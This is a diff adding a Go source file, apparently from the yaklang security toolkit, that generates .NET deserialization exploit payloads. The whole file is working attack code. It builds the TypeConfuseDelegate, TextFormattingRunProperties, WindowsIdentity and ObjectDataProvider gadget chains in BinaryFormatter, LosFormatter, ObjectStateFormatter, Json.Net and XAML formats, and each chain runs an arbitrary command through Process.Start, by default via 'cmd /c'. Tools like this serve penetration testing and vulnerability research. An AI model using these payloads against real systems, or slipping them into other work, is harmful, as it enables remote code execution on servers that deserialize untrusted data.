@@ -0,0 +1,387 @@
+package dotnet
+
+import (
+	"bytes"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"html"
+	"strings"
+
+	"github.com/yaklang/yaklang/common/utils"
+)
+
+type GadgetType string
+
+const (
+	GadgetTypeConfuseDelegate         GadgetType = "TypeConfuseDelegate"
+	GadgetTextFormattingRunProperties GadgetType = "TextFormattingRunProperties"
+	GadgetWindowsIdentity             GadgetType = "WindowsIdentity"
+	GadgetObjectDataProvider          GadgetType = "ObjectDataProvider"
+)
+
+type FormatterType string
+
+const (
+	FormatterBinary      FormatterType = "BinaryFormatter"
+	FormatterLos         FormatterType = "LosFormatter"
+	FormatterObjectState FormatterType = "ObjectStateFormatter"
+	FormatterJsonNet     FormatterType = "Json.Net"
+	FormatterXaml        FormatterType = "Xaml"
+)
+
+// GadgetInfo .NET 反序列化利用链以及支持的序列化格式
+type GadgetInfo struct {
+	Name       GadgetType
+	Desc       string
+	Formatters []FormatterType
+}
+
+var binaryFormatters = []FormatterType{FormatterBinary, FormatterLos, FormatterObjectState}
+
+var allGadgets = []*GadgetInfo{
+	{
+		Name:       GadgetTypeConfuseDelegate,
+		Desc:       "SortedSet 与 ComparisonComparer 组合，通过多播委托类型混淆调用 Process.Start，只依赖 mscorlib 和 System",
+		Formatters: binaryFormatters,
+	},
+	{
+		Name:       GadgetTextFormattingRunProperties,
+		Desc:       "反序列化 ForegroundBrush 时解析 XAML，通过 ObjectDataProvider 调用 Process.Start，依赖 Microsoft.PowerShell.Editor",
+		Formatters: binaryFormatters,
+	},
+	{
+		Name:       GadgetWindowsIdentity,
+		Desc:       "ClaimsIdentity.actor 中嵌套 BinaryFormatter 序列化的 TypeConfuseDelegate，可用于 Json.Net 等只调用 ISerializable 构造函数的场景",
+		Formatters: append(append([]FormatterType{}, binaryFormatters...), FormatterJsonNet),
+	},
+	{
+		Name:       GadgetObjectDataProvider,
+		Desc:       "WPF ObjectDataProvider 调用 Process.Start，依赖 PresentationFramework，适用于 Json.Net TypeNameHandling 以及 XamlReader",
+		Formatters: []FormatterType{FormatterJsonNet, FormatterXaml},
+	},
+}
+
+// GetAllGadgets 获取支持的 .NET 利用链
+func GetAllGadgets() []*GadgetInfo {
+	return allGadgets
+}
+
+func getGadgetInfo(name string) (*GadgetInfo, bool) {
+	for _, g := range allGadgets {
+		if strings.EqualFold(string(g.Name), name) {
+			return g, true
+		}
+	}
+	return nil, false
+}
+
+// IsGadget 判断是否为 .NET 利用链
+func IsGadget(name string) bool {
+	_, ok := getGadgetInfo(name)
+	return ok
+}
+
+func normalizeFormatter(name string) (FormatterType, bool) {
+	switch strings.ToLower(strings.TrimSpace(name)) {
+	case "binaryformatter", "binary":
+		return FormatterBinary, true
+	case "losformatter", "los":
+		return FormatterLos, true
+	case "objectstateformatter", "objectstate":
+		return FormatterObjectState, true
+	case "json.net", "jsonnet", "json":
+		return FormatterJsonNet, true
+	case "xaml", "xamlreader":
+		return FormatterXaml, true
+	}
+	return "", false
+}
+
+type config struct {
+	rawCommand bool
+}
+
+type GenOptionFun func(*config)
+
+// WithRawCommand 不使用 cmd /c 包装命令，命令按第一个空格拆分为程序与参数
+func WithRawCommand(b bool) GenOptionFun {
+	return func(c *config) {
+		c.rawCommand = b
+	}
+}
+
+// processCommand 将命令拆分为 Process.Start 的 fileName 与 arguments
+func processCommand(command string, raw bool) (string, string) {
+	if !raw {
+		return "cmd", "/c " + command
+	}
+	command = strings.TrimSpace(command)
+	if idx := strings.IndexAny(command, " \t"); idx > 0 {
+		return command[:idx], strings.TrimSpace(command[idx+1:])
+	}
+	return command, ""
+}
+
+// GenerateGadget 使用 formatter 序列化执行 command 的 .NET 利用链，
+// LosFormatter 返回 base64 文本，其余格式返回原始字节（Json.Net、Xaml 为文本）
+func GenerateGadget(gadget, formatter, command string, opts ...GenOptionFun) ([]byte, error) {
+	info, ok := getGadgetInfo(gadget)
+	if !ok {
+		return nil, utils.Errorf("not support .NET gadget: %s", gadget)
+	}
+	f, ok := normalizeFormatter(formatter)
+	if !ok {
+		return nil, utils.Errorf("not support .NET formatter: %s", formatter)
+	}
+	supported := false
+	for _, i := range info.Formatters {
+		if i == f {
+			supported = true
+			break
+		}
+	}
+	if !supported {
+		return nil, utils.Errorf("gadget %s does not support formatter %s", info.Name, f)
+	}
+	if command == "" {
+		return nil, utils.Error("command is empty")
+	}
+	c := &config{}
+	for _, opt := range opts {
+		opt(c)
+	}
+	fileName, arguments := processCommand(command, c.rawCommand)
+
+	switch f {
+	case FormatterJsonNet:
+		switch info.Name {
+		case GadgetWindowsIdentity:
+			return windowsIdentityJsonNet(fileName, arguments)
+		case GadgetObjectDataProvider:
+			return objectDataProviderJsonNet(fileName, arguments)
+		}
+	case FormatterXaml:
+		return []byte(objectDataProviderXaml(fileName, arguments)), nil
+	}
+
+	var raw []byte
+	switch info.Name {
+	case GadgetTypeConfuseDelegate:
+		raw = typeConfuseDelegate(fileName, arguments)
+	case GadgetTextFormattingRunProperties:
+		raw = textFormattingRunProperties(fileName, arguments)
+	case GadgetWindowsIdentity:
+		raw = windowsIdentity(fileName, arguments)
+	}
+	switch f {
+	case FormatterLos:
+		return ToLosFormatter(raw), nil
+	case FormatterObjectState:
+		return ToObjectStateFormatter(raw), nil
+	default:
+		return raw, nil
+	}
+}
+
+// ToObjectStateFormatter 把 BinaryFormatter 序列化的数据包装为 ObjectStateFormatter 格式（Token_BinarySerialized）
+func ToObjectStateFormatter(binaryFormatterData []byte) []byte {
+	var buf bytes.Buffer
+	buf.Write([]byte{0xff, 0x01, 0x32})
+	buf.Write(write7BitEncodedInt(len(binaryFormatterData)))
+	buf.Write(binaryFormatterData)
+	return buf.Bytes()
+}
+
+// ToLosFormatter 把 BinaryFormatter 序列化的数据包装为 LosFormatter 格式（不带 MAC 的 base64 文本）
+func ToLosFormatter(binaryFormatterData []byte) []byte {
+	return []byte(base64.StdEncoding.EncodeToString(ToObjectStateFormatter(binaryFormatterData)))
+}
+
+func genericString() string {
+	return fmt.Sprintf("[System.String, %s]", mscorlibAssembly)
+}
+
+// typeConfuseDelegate 参考 ysoserial.net TypeConfuseDelegate:
+// SortedSet<string> 反序列化时重新添加元素，比较器中的委托调用列表为 [String.Compare, Process.Start]，
+// 第二个元素与第一个元素比较时调用 Process.Start(items[1], items[0])
+func typeConfuseDelegate(fileName, arguments string) []byte {
+	var (
+		str          = genericString()
+		comparison   = fmt.Sprintf("System.Comparison`1[%s]", str)
+		delegateType = fmt.Sprintf("System.Func`3[%s,%s,[System.Diagnostics.Process, %s]]", str, str, systemAssembly)
+		entryType    = "System.DelegateSerializationHolder+DelegateEntry"
+		methodHolder = "System.Reflection.MemberInfoSerializationHolder"
+	)
+
+	w := newNrbfWriter()
+	var (
+		sortedSetID   = w.newID()
+		comparerID    = w.newID()
+		itemsID       = w.newID()
+		holderID      = w.newID()
+		startEntryID  = w.newID()
+		cmpEntryID    = w.newID()
+		startMethodID = w.newID()
+		cmpMethodID   = w.newID()
+	)
+	w.writeHeader(sortedSetID)
+	w.writeClass(&nrbfClass{
+		ID:      sortedSetID,
+		Name:    fmt.Sprintf("System.Collections.Generic.SortedSet`1[%s]", str),
+		Library: systemAssembly,
+		Members: []*nrbfMember{
+			{Name: "Count", Type: binaryTypePrimitive, Info: primitiveInt32, Value: int32(2)},
+			{Name: "Comparer", Type: binaryTypeSystemClass, Info: fmt.Sprintf("System.Collections.Generic.ComparisonComparer`1[%s]", str), Value: nrbfRef(comparerID)},
+			{Name: "Version", Type: binaryTypePrimitive, Info: primitiveInt32, Value: int32(2)},
+			{Name: "Items", Type: binaryTypeStringArray, Value: nrbfRef(itemsID)},
+		},
+	})
+	w.writeClass(&nrbfClass{
+		ID:   comparerID,
+		Name: fmt.Sprintf("System.Collections.Generic.ComparisonComparer`1[%s]", str),
+		Members: []*nrbfMember{
+			{Name: "_comparison", Type: binaryTypeSystemClass, Info: "System.DelegateSerializationHolder", Value: nrbfRef(holderID)},
+		},
+	})
+	w.writeStringArray(itemsID, []string{arguments, fileName})
+	w.writeClass(&nrbfClass{
+		ID:   holderID,
+		Name: "System.DelegateSerializationHolder",
+		Members: []*nrbfMember{
+			{Name: "Delegate", Type: binaryTypeSystemClass, Info: entryType, Value: nrbfRef(startEntryID)},
+			{Name: "method0", Type: binaryTypeSystemClass, Info: methodHolder, Value: nrbfRef(startMethodID)},
+			{Name: "method1", Type: binaryTypeSystemClass, Info: methodHolder, Value: nrbfRef(cmpMethodID)},
+		},
+	})
+	delegateEntry := func(id int32, typ, targetAssembly, targetType, method string, next any) *nrbfClass {
+		return &nrbfClass{
+			ID:   id,
+			Name: entryType,
+			Members: []*nrbfMember{
+				{Name: "type", Type: binaryTypeString, Value: typ},
+				{Name: "assembly", Type: binaryTypeString, Value: mscorlibAssembly},
+				{Name: "target", Type: binaryTypeObject, Value: nil},
+				{Name: "targetTypeAssembly", Type: binaryTypeString, Value: targetAssembly},
+				{Name: "targetTypeName", Type: binaryTypeString, Value: targetType},
+				{Name: "methodName", Type: binaryTypeString, Value: method},
+				{Name: "delegateEntry", Type: binaryTypeSystemClass, Info: entryType, Value: next},
+			},
+		}
+	}
+	w.writeClass(delegateEntry(startEntryID, delegateType, systemAssembly, "System.Diagnostics.Process", "Start", nrbfRef(cmpEntryID)))
+	w.writeClass(delegateEntry(cmpEntryID, comparison, mscorlibAssembly, "System.String", "Compare", nil))
+	methodInfo := func(id int32, name, assembly, class, signature, signature2 string) *nrbfClass {
+		return &nrbfClass{
+			ID:   id,
+			Name: methodHolder,
+			Members: []*nrbfMember{
+				{Name: "Name", Type: binaryTypeString, Value: name},
+				{Name: "AssemblyName", Type: binaryTypeString, Value: assembly},
+				{Name: "ClassName", Type: binaryTypeString, Value: class},
+				{Name: "Signature", Type: binaryTypeString, Value: signature},
+				{Name: "Signature2", Type: binaryTypeString, Value: signature2},
+				{Name: "MemberType", Type: binaryTypePrimitive, Info: primitiveInt32, Value: int32(8)},
+				{Name: "GenericArguments", Type: binaryTypeSystemClass, Info: "System.Type[]", Value: nil},
+			},
+		}
+	}
+	w.writeClass(methodInfo(startMethodID, "Start", systemAssembly, "System.Diagnostics.Process",
+		"System.Diagnostics.Process Start(System.String, System.String)",
+		"System.Diagnostics.Process Start(System.String, System.String)"))
+	w.writeClass(methodInfo(cmpMethodID, "Compare", mscorlibAssembly, "System.String",
+		"Int32 Compare(System.String, System.String)",
+		"System.Int32 Compare(System.String, System.String)"))
+	return w.writeEnd()
+}
+
+func objectDataProviderXaml(fileName, arguments string) string {
+	return fmt.Sprintf(`<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:s="clr-namespace:System;assembly=mscorlib" xmlns:d="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="p" ObjectType="{x:Type d:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters><s:String>%s</s:String><s:String>%s</s:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>`,
+		html.EscapeString(fileName), html.EscapeString(arguments))
+}
+
+// textFormattingRunProperties ISerializable 构造函数中使用 XamlReader 解析 ForegroundBrush
+func textFormattingRunProperties(fileName, arguments string) []byte {
+	w := newNrbfWriter()
+	id := w.newID()
+	w.writeHeader(id)
+	w.writeClass(&nrbfClass{
+		ID:      id,
+		Name:    "Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties",
+		Library: "Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
+		Members: []*nrbfMember{
+			{Name: "ForegroundBrush", Type: binaryTypeString, Value: objectDataProviderXaml(fileName, arguments)},
+		},
+	})
+	return w.writeEnd()
+}
+
+const windowsIdentityActor = "System.Security.ClaimsIdentity.actor"
+
+// windowsIdentity ClaimsIdentity 反序列化时使用 BinaryFormatter 解析 actor 中的 base64 数据
+func windowsIdentity(fileName, arguments string) []byte {
+	w := newNrbfWriter()
+	id := w.newID()
+	w.writeHeader(id)
+	w.writeClass(&nrbfClass{
+		ID:   id,
+		Name: "System.Security.Principal.WindowsIdentity",
+		Members: []*nrbfMember{
+			{Name: windowsIdentityActor, Type: binaryTypeString, Value: base64.StdEncoding.EncodeToString(typeConfuseDelegate(fileName, arguments))},
+		},
+	})
+	return w.writeEnd()
+}
+
+func windowsIdentityJsonNet(fileName, arguments string) ([]byte, error) {
+	return marshalJsonNet([][2]any{
+		{"$type", "System.Security.Principal.WindowsIdentity, " + mscorlibAssembly},
+		{windowsIdentityActor, base64.StdEncoding.EncodeToString(typeConfuseDelegate(fileName, arguments))},
+	})
+}
+
+func objectDataProviderJsonNet(fileName, arguments string) ([]byte, error) {
+	parameters, err := marshalJsonNet([][2]any{
+		{"$type", "System.Collections.ArrayList, " + mscorlibAssembly},
+		{"$values", []string{fileName, arguments}},
+	})
+	if err != nil {
+		return nil, err
+	}
+	instance, err := marshalJsonNet([][2]any{
+		{"$type", "System.Diagnostics.Process, " + systemAssembly},
+	})
+	if err != nil {
+		return nil, err
+	}
+	return marshalJsonNet([][2]any{
+		{"$type", "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35"},
+		{"MethodName", "Start"},
+		{"MethodParameters", json.RawMessage(parameters)},
+		{"ObjectInstance", json.RawMessage(instance)},
+	})
+}
+
+// marshalJsonNet Json.Net 要求 $type 是对象的第一个属性，因此按顺序输出
+func marshalJsonNet(fields [][2]any) ([]byte, error) {
+	var buf bytes.Buffer
+	buf.WriteByte('{')
+	for i, field := range fields {
+		if i > 0 {
+			buf.WriteByte(',')
+		}
+		key, err := json.Marshal(field[0])
+		if err != nil {
+			return nil, err
+		}
+		value, err := json.Marshal(field[1])
+		if err != nil {
+			return nil, err
+		}
+		buf.Write(key)
+		buf.WriteByte(':')
+		buf.Write(value)
+	}
+	buf.WriteByte('}')
+	return buf.Bytes(), nil
+}